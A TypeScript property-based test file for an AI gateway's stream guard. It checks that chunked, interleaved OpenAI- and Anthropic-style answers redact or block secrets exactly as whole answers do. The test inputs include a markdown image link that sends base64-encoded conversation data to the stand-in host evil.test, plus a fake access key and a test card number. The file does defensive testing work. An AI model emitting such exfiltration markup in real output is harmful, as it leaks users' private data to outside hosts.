/**
 * Through the real wire surfaces: however the channels of an answer are cut and interleaved, each channel's text comes out
 * as the same text in a whole answer does, with the same findings, and nothing of what is redacted or blocked goes out.
 */
import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { systemClock } from '../../src/core/clock.ts';
import { readEnvironment } from '../../src/core/config.ts';
import { parseStrict } from '../../src/core/json.ts';
import type { SurfaceId } from '../../src/conversation/types.ts';
import { SseParser, surfaceById } from '../../src/conversation/wire/index.ts';
import { guardAnswer } from '../../src/enforce/answer-guard.ts';
import { StreamGuard } from '../../src/enforce/stream-guard.ts';
import { Vaults } from '../../src/enforce/vault.ts';
import { parsePolicyFile } from '../../src/policy/file.ts';
import { resolve } from '../../src/policy/resolve.ts';
import { fullEngine } from '../support/gateway.ts';

const engine = fullEngine();
const file = parsePolicyFile('policy: {denylist: [{id: project, phrase: bluebird}]}', 'test.yaml', { rules: [...engine.rules.values()], environment: readEnvironment({}), now: 0 });
const policy = resolve(file, { application: 'a', route: 'r', model: 'm' });

const KEY = 'AKIA5XQ7TNZ3WDKE2BVC';
const CARD = '4539 1488 0343 6467';
const CANARY = 'ref-7k2m9q4x8w1c5v3b6n0z';
const PIECES = ['The capital of France is Paris. ', 'See https://example.org/docs. ', '文字化け 😀 ', ` ${KEY} `, ` card ${CARD} `, ' <EMAIL_1> ', '<SECRET_1>', '&lt;EMAIL_1&gt;', '<', 'EMAIL_1', '"quoted" \\ ', '\n\n', '![p](https://evil.test/p.png?d=c2VjcmV0LWRhdGEtZnJvbS10aGUtY29udmVyc2F0aW9u) ', 'x'.repeat(40), 'project blue', 'bird '];
const BLOCKING = [...PIECES, 'the bluebird ', ` ${CANARY} `];
const words = (pieces: readonly string[]): fc.Arbitrary<string> => fc.array(fc.constantFrom(...pieces), { minLength: 1, maxLength: 6 }).map((list) => list.join(''));

/** One choice's answer by channel. */
interface Said { readonly content: string; readonly reasoning: string; readonly refusal: string; readonly args: string; readonly note: string; readonly cited: string }
const FIELDS = ['reasoning', 'content', 'refusal', 'note', 'cited', 'args'] as const;
const said = (pieces: readonly string[]): fc.Arbitrary<Said> => fc.record({
  content: words(pieces), reasoning: words(pieces), refusal: fc.oneof(fc.constant(''), words(pieces)), note: fc.oneof(fc.constant(''), words(pieces)), cited: fc.oneof(fc.constant(''), words(pieces)),
  args: fc.oneof(fc.constant(''), words(pieces).map((text) => JSON.stringify({ to: text, n: 1 }))),
});

function guards(): Parameters<typeof guardAnswer>[2] {
  const vault = new Vaults(systemClock).for(undefined, 1_000);
  vault.pseudonym('EMAIL', 'anna.schmidt@acme-corp.com');
  vault.pseudonym('SECRET', 'line one\n"quoted" \\ two');
  return { engine, policy, context: { fingerprint: 'test', systemTexts: [], canaries: [CANARY], settings: policy.settings }, vault, trust: 'untrusted', now: 0, json: false, exchange: 'ex_1' };
}

/** A text in pieces at random places, which never divide a surrogate pair: JSON on the wire could not hold them. */
function cut(text: string, at: readonly number[]): string[] {
  const points = [...new Set(at.map((share) => Math.floor(share * text.length)))].map((point) => ((text.charCodeAt(point) & 0xfc00) === 0xdc00 ? point - 1 : point)).sort((a, b) => a - b);
  return [0, ...points].map((point, i) => text.slice(point, points[i] ?? text.length)).filter((piece) => piece !== '');
}

const cuts = fc.array(fc.double({ min: 0, max: 1, noNaN: true, maxExcluded: true }), { maxLength: 8 });
/** The order in which the channels' pieces come, as draws among those that still have some. */
const order = fc.infiniteStream(fc.nat(1_000));

function shuffled<T>(queues: readonly (readonly T[])[], draws: Iterator<number>): T[] {
  const left = queues.map((queue) => [...queue]).filter((queue) => queue.length > 0);
  const out: T[] = [];
  while (left.length > 0) {
    const at = Number(draws.next().value) % left.length;
    const next = left[at]?.shift();
    if (next !== undefined) out.push(next);
    if (left[at]?.length === 0) left.splice(at, 1);
  }
  return out;
}

interface Run { readonly out: string; readonly findings: string[]; readonly refused: boolean }

function run(surface: SurfaceId, raw: string, choices: number, chunkBytes: number): Run {
  const wire = surfaceById(surface).openStream();
  const guard = new StreamGuard({ ...guards(), wire, choices });
  const parser = new SseParser(1_000_000);
  const bytes = Buffer.from(raw);
  let out = '';
  for (let at = 0; at < bytes.length; at += chunkBytes) {
    for (const event of parser.push(bytes.subarray(at, at + chunkBytes))) if (!guard.ended) out += guard.event(wire.read(event));
  }
  out += guard.end();
  const findings = guard.channels().flatMap(({ inspection }) => inspection.findings.map(({ rule, span }) => `${rule} ${span[0]}-${span[1]}`)).sort();
  return { out, findings, refused: guard.ended };
}

function whole(surface: SurfaceId, body: object): { body: Record<string, unknown>; findings: string[]; refused: readonly number[] } {
  const raw = JSON.stringify(body);
  const wire = surfaceById(surface);
  const guarded = guardAnswer(wire, wire.parseAnswer(raw, parseStrict(raw, 64)), guards());
  return { body: JSON.parse(guarded.body) as Record<string, unknown>, refused: guarded.refused, findings: guarded.parts.flatMap(({ inspection }) => inspection.findings.map(({ rule, span }) => `${rule} ${span[0]}-${span[1]}`)).sort() };
}

function data(out: string): Record<string, unknown>[] {
  return out.split('\n').filter((line) => line.startsWith('data: {')).map((line) => JSON.parse(line.slice(6)) as Record<string, unknown>);
}

function openAiEvent(index: number, delta: object, finish: string | null = null): object {
  return { index, delta, finish_reason: finish };
}

/** The deltas of one choice, channel by channel. */
function openAiQueues(one: Said, index: number, at: readonly number[]): object[][] {
  return FIELDS.filter((field) => one[field] !== '').map((field) => {
    if (field === 'cited') return [openAiEvent(index, { annotations: [{ type: 'url_citation', title: one.cited }] })];
    if (field === 'args') return [openAiEvent(index, { tool_calls: [{ index: 0, id: 'c', type: 'function', function: { name: 'f', arguments: '' } }] }), ...cut(one.args, at).map((piece) => openAiEvent(index, { tool_calls: [{ index: 0, function: { arguments: piece } }] }))];
    return cut(one[field], at).map((piece) => openAiEvent(index, { [field]: piece, ...(piece.length % 3 === 0 ? { role: 'assistant' } : {}) }));
  });
}

/** Choices together in chunks of one or more: `group` says how many go into each. */
function openAiStream(events: readonly object[], count: number, group: number): string {
  const head = { id: 'c', object: 'chat.completion.chunk', created: 1, model: 'm' };
  const chunks: object[] = [];
  for (let i = 0; i < events.length; ) {
    const next: object[] = [];
    while (next.length < group && i < events.length && !next.some((each) => (each as { index: number }).index === (events[i] as { index: number }).index)) next.push(events[i++] ?? {});
    chunks.push({ ...head, choices: next });
  }
  chunks.push({ ...head, choices: Array.from({ length: count }, (_, index) => openAiEvent(index, {}, 'stop')) });
  return chunks.map((chunk) => `data: ${JSON.stringify(chunk)}\n\n`).join('') + 'data: [DONE]\n\n';
}

type OpenAiDelta = { content?: string; reasoning?: string; refusal?: string; note?: string; annotations?: { title: string }[]; tool_calls?: { function?: { arguments?: string } }[] };

function openAiTexts(out: string, index: number): Said {
  const deltas = data(out).flatMap((chunk) => chunk['choices'] as { index: number; delta: OpenAiDelta }[]).filter((choice) => choice.index === index).map(({ delta }) => delta);
  const join = (pick: (delta: OpenAiDelta) => string | undefined): string => deltas.map((delta) => pick(delta) ?? '').join('');
  return { content: join((d) => d.content), reasoning: join((d) => d.reasoning), refusal: join((d) => d.refusal), note: join((d) => d.note), cited: join((d) => d.annotations?.[0]?.title), args: join((d) => d.tool_calls?.map((call) => call.function?.arguments ?? '').join('')) };
}

function openAiWhole(list: readonly Said[]): object {
  return { id: 'c', object: 'chat.completion', created: 1, model: 'm', choices: list.map((one, index) => ({ index, finish_reason: 'stop', message: {
    role: 'assistant', content: one.content, reasoning: one.reasoning, ...(one.refusal === '' ? {} : { refusal: one.refusal }), ...(one.note === '' ? {} : { note: one.note }), ...(one.cited === '' ? {} : { annotations: [{ type: 'url_citation', title: one.cited }] }),
    ...(one.args === '' ? {} : { tool_calls: [{ id: 'c', type: 'function', function: { name: 'f', arguments: one.args } }] }) } })) };
}

function openAiWholeTexts(body: Record<string, unknown>, index: number): Said {
  const { message } = (body['choices'] as { message: { [K in keyof OpenAiDelta]: OpenAiDelta[K] } }[])[index] ?? { message: {} };
  return { content: message.content ?? '', reasoning: message.reasoning ?? '', refusal: message.refusal ?? '', note: message.note ?? '', cited: message.annotations?.[0]?.title ?? '', args: message.tool_calls?.[0]?.function?.arguments ?? '' };
}

/** Parts of secrets that may never be seen, whatever came of the answer. */
function expectNothingHidden(out: string): void {
  for (const hidden of [KEY.slice(0, 12), CARD.slice(0, 12), CANARY.slice(0, 12), 'bluebird']) expect(out).not.toContain(hidden);
}

describe('openai.chat', () => {
  test('three choices, all channels, any order and chunking: as in a whole answer', () => {
    fc.assert(fc.property(fc.array(said(PIECES.filter((piece) => !/blue|bird/.test(piece))), { minLength: 1, maxLength: 3 }), cuts, order, fc.integer({ min: 1, max: 3 }), fc.integer({ min: 1, max: 200 }), (list, at, draws, group, bytes) => {
      const raw = openAiStream(shuffled(list.flatMap((one, index) => openAiQueues(one, index, at)), draws[Symbol.iterator]()), list.length, group);
      const streamed = run('openai.chat', raw, list.length, bytes);
      const once = whole('openai.chat', openAiWhole(list));
      expect(once.refused).toEqual([]);
      for (const index of list.keys()) expect(openAiTexts(streamed.out, index)).toEqual(openAiWholeTexts(once.body, index));
      expect(streamed.findings).toEqual(once.findings);
      expectNothingHidden(streamed.out);
    }), { numRuns: 150 });
  });

  test('what is blocked in one choice leaves nothing behind and the other choices as they are', () => {
    fc.assert(fc.property(fc.array(said(BLOCKING), { minLength: 3, maxLength: 3 }), cuts, order, fc.integer({ min: 1, max: 3 }), (list, at, draws, group) => {
      const raw = openAiStream(shuffled(list.flatMap((one, index) => openAiQueues(one, index, at)), draws[Symbol.iterator]()), 3, group);
      const streamed = run('openai.chat', raw, 3, raw.length);
      const once = whole('openai.chat', openAiWhole(list));
      expectNothingHidden(streamed.out);
      expectNothingHidden(JSON.stringify(once.body));
      for (const index of list.keys()) {
        const refused = data(streamed.out).some((chunk) => (chunk['choices'] as { index: number; finish_reason: string }[]).some((choice) => choice.index === index && choice.finish_reason === 'content_filter'));
        expect(refused).toBe(once.refused.includes(index));
        if (!refused) expect(openAiTexts(streamed.out, index)).toEqual(openAiWholeTexts(once.body, index));
      }
    }), { numRuns: 150 });
  });

  test('a refusal comes or does not, however the answer is cut, and nothing after it', () => {
    fc.assert(fc.property(said(BLOCKING), cuts, order, (one, at, draws) => {
      const cutUp = run('openai.chat', openAiStream(shuffled(openAiQueues(one, 0, at), draws[Symbol.iterator]()), 1, 1), 1, 7);
      const inOne = run('openai.chat', openAiStream(openAiQueues(one, 0, []).flat(), 1, 1), 1, 1_000_000);
      expect(cutUp.refused).toBe(inOne.refused);
      if (cutUp.refused) expect(cutUp.out).toMatch(/"finish_reason":"content_filter"[^\n]*\n\ndata: \[DONE\]\n\n$/);
      else expect(openAiTexts(cutUp.out, 0)).toEqual(openAiTexts(inOne.out, 0));
    }), { numRuns: 100 });
  });
});

describe('anthropic.messages', () => {
  interface Block { readonly kind: 'text' | 'thinking' | 'tool_use'; readonly text: string; readonly cited: string }
  const blocks = (pieces: readonly string[]): fc.Arbitrary<Block[]> => fc.array(fc.oneof(
    fc.record({ kind: fc.constantFrom('text' as const, 'thinking' as const), text: words(pieces), cited: fc.oneof(fc.constant(''), words(pieces)) }),
    words(pieces).map((text): Block => ({ kind: 'tool_use', text: JSON.stringify({ to: text, n: 1 }), cited: '' })),
  ), { minLength: 1, maxLength: 4 });
  const cites = (block: Block): boolean => block.kind === 'text' && block.cited !== '';
  const event = (value: { type: string; [key: string]: unknown }): string => `event: ${value.type}\ndata: ${JSON.stringify(value)}\n\n`;

  /** Blocks that are open at the same time, their deltas in any order. */
  function stream(list: readonly Block[], at: readonly number[], draws: Iterator<number>): string {
    const start = (block: Block): object => (block.kind === 'text' ? { type: 'text', text: '' } : block.kind === 'thinking' ? { type: 'thinking', thinking: '', signature: '' } : { type: 'tool_use', id: 't', name: 'f', input: {} });
    const delta = (block: Block, piece: string): object => (block.kind === 'text' ? { type: 'text_delta', text: piece } : block.kind === 'thinking' ? { type: 'thinking_delta', thinking: piece } : { type: 'input_json_delta', partial_json: piece });
    const queues = list.map((block, index) => [
      ...cut(block.text, at).map((piece) => ({ type: 'content_block_delta', index, delta: delta(block, piece) })),
      ...(cites(block) ? [{ type: 'content_block_delta', index, delta: { type: 'citations_delta', citation: { type: 'char_location', cited_text: block.cited } } }] : []),
      { type: 'content_block_stop', index },
    ]);
    return event({ type: 'message_start', message: { id: 'm', type: 'message', role: 'assistant', model: 'm', content: [], stop_reason: null, stop_sequence: null, usage: { input_tokens: 1, output_tokens: 1 } } })
      + list.map((block, index) => event({ type: 'content_block_start', index, content_block: start(block) })).join('')
      + shuffled(queues, draws).map(event).join('')
      + event({ type: 'message_delta', delta: { stop_reason: 'end_turn', stop_sequence: null }, usage: { output_tokens: 2 } }) + event({ type: 'message_stop' });
  }

  type Wire = { type: string; text?: string; thinking?: string; input?: object; citations?: { cited_text: string }[] };
  function texts(out: string, index: number): [string, string] {
    const deltas = data(out).filter((each) => each['type'] === 'content_block_delta' && each['index'] === index).map((each) => each['delta'] as { text?: string; thinking?: string; partial_json?: string; citation?: { cited_text: string } });
    return [deltas.map((each) => each.text ?? each.thinking ?? each.partial_json ?? '').join(''), deltas.map((each) => each.citation?.cited_text ?? '').join('')];
  }
  function wholeOf(list: readonly Block[]): object {
    const content = list.map((block) => (block.kind === 'text' ? { type: 'text', text: block.text, ...(cites(block) ? { citations: [{ type: 'char_location', cited_text: block.cited }] } : {}) } : block.kind === 'thinking' ? { type: 'thinking', thinking: block.text, signature: 's' } : { type: 'tool_use', id: 't', name: 'f', input: JSON.parse(block.text) as object }));
    return { id: 'm', type: 'message', role: 'assistant', model: 'm', content, stop_reason: 'end_turn', stop_sequence: null, usage: { input_tokens: 1, output_tokens: 1 } };
  }

  test('blocks of every kind, interleaved and cut: as in a whole answer', () => {
    fc.assert(fc.property(blocks(PIECES.filter((piece) => !/blue|bird/.test(piece))), cuts, order, fc.integer({ min: 1, max: 200 }), (list, at, draws, bytes) => {
      const streamed = run('anthropic.messages', stream(list, at, draws[Symbol.iterator]()), 1, bytes);
      const once = whole('anthropic.messages', wholeOf(list));
      expect(once.refused).toEqual([]);
      for (const [index, block] of (once.body['content'] as Wire[]).entries()) {
        expect(texts(streamed.out, index)).toEqual([block.text ?? block.thinking ?? JSON.stringify(block.input), block.citations?.[0]?.cited_text ?? '']);
      }
      expectNothingHidden(streamed.out);
    }), { numRuns: 150 });
  });

  test('a blocked answer ends as a refusal, and shows nothing of why', () => {
    fc.assert(fc.property(blocks(BLOCKING), cuts, order, (list, at, draws) => {
      const streamed = run('anthropic.messages', stream(list, at, draws[Symbol.iterator]()), 1, 1_000_000);
      const once = whole('anthropic.messages', wholeOf(list));
      expectNothingHidden(streamed.out);
      expectNothingHidden(JSON.stringify(once.body));
      const reasons = data(streamed.out).filter((each) => each['type'] === 'message_delta').map((each) => (each['delta'] as { stop_reason: string }).stop_reason);
      expect(reasons).toEqual([once.refused.length > 0 ? 'refusal' : 'end_turn']);
      expect(data(streamed.out).at(-1)).toMatchObject({ type: 'message_stop' });
    }), { numRuns: 150 });
  });
});
